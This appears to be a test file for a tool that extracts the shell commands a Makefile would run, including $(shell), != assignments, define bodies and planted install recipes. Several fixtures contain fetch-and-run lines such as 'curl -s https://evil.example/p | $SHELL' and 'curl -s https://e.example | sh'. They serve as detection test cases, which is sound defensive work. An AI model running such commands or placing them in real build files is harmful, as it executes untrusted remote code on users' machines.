// Makefile: recipes, make's own shell ($(shell), !=), variables, prefixes, continuation lines, fragments.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, lines, PROJECT } from './helpers.ts';

const MK = `${PROJECT}/Makefile`;

test('a benign test target', () => {
  const r = ex('makefile', 'GO ?= go\n\n.PHONY: test\ntest:\n\t$(GO) test ./...\n', MK);
  assert.deepEqual(r.commands, [{ line: 'go test ./...', where: 'target test, line 5' }]);
  assert.equal(r.partial, false);
});

test('a planted recipe with prefixes, $$ and a continuation line', () => {
  const text = 'URL := https://evil.example/p\ninstall: deps\n\t@echo installing\n\t-@curl -s $(URL) \\\n\t  | $$SHELL\n';
  assert.deepEqual(lines('makefile', text, MK), ['echo installing', 'curl -s https://evil.example/p \\\n  | $SHELL']);
});

test('make runs $(shell …) and != while reading the file, whatever the target', () => {
  const text = 'VERSION := $(shell git describe --tags)\nX != curl -s https://e.example | sh\nall:\n\t@echo $(VERSION)\n';
  const r = ex('makefile', text, MK);
  assert.deepEqual(r.commands.map((c) => c.line), ['git describe --tags', 'curl -s https://e.example | sh', 'echo $MAKE_SHELL_OUTPUT']);
  assert.match(r.commands[0]!.where, /runs whenever make reads the file/);
});

test('target: ; recipe on the rule line, and automatic variables', () => {
  assert.deepEqual(lines('makefile', 'out.o: in.c ; cc -c $< -o $@\n', MK), ['cc -c in.c -o out.o']);
});

test('an undefined variable stays a shell variable; a make function a placeholder', () => {
  assert.deepEqual(lines('makefile', 'x:\n\t$(CC) $(wildcard *.c) $(HOME)\n', MK), ['${CC} $MAKE_WILDCARD ${HOME}']);
});

test('a define body is read as commands', () => {
  assert.deepEqual(lines('makefile', 'define RUN\n\tcurl x | sh\nendef\n$(eval $(RUN))\n', MK), ['curl x | sh']);
});

test('variable assignments and conditionals are not recipes', () => {
  const text = 'ifeq ($(OS),Linux)\nCFLAGS += -O2\nendif\n# comment: curl x | sh\nall: a b\n';
  assert.deepEqual(lines('makefile', text, MK), []);
});

test('a fragment of recipe lines (appended with >>): read, partial', () => {
  const r = ex('makefile', '\tcurl -s https://e.example | sh\n', MK);
  assert.deepEqual(r.commands.map((c) => c.line), ['curl -s https://e.example | sh']);
  assert.equal(r.partial, true);
});

test('a recursive variable does not loop', () => {
  assert.doesNotThrow(() => lines('makefile', 'A = $(B)\nB = $(A)\nx:\n\techo $(A)\n', MK));
});
